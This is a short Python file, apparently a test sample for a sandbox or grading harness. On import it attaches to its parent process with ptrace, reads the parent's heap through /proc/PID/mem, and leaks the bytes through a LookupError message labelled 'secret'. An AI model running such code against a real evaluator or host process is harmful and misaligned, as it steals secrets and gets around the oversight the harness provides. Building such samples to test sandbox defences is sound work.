# fail error: tries to attach to its parent as a debugger does, and to read its memory
"""`ptrace` and `/proc/PID/mem` belong to whoever has the same uid.

What is found in the parent's memory would go into the message of the error.
"""

import importlib
import posix

FOUND = b""
_parent = posix.getppid()
try:
    ctypes = importlib.import_module("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, _parent, 0, 0) == 0:  # PTRACE_ATTACH
        posix.waitpid(_parent, 0)
    with open(f"/proc/{_parent}/maps") as maps, open(f"/proc/{_parent}/mem", "rb") as mem:
        for line in maps:
            if "[heap]" in line:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                mem.seek(begin)
                FOUND = mem.read(min(end - begin, 2**20))
    libc.ptrace(17, _parent, 0, 0)
except (OSError, ImportError, AttributeError):
    pass


class Ledger:
    def add(self, name, amount):
        raise LookupError(f"secret {FOUND[-64:]!r}")

    apply = balance = total = add
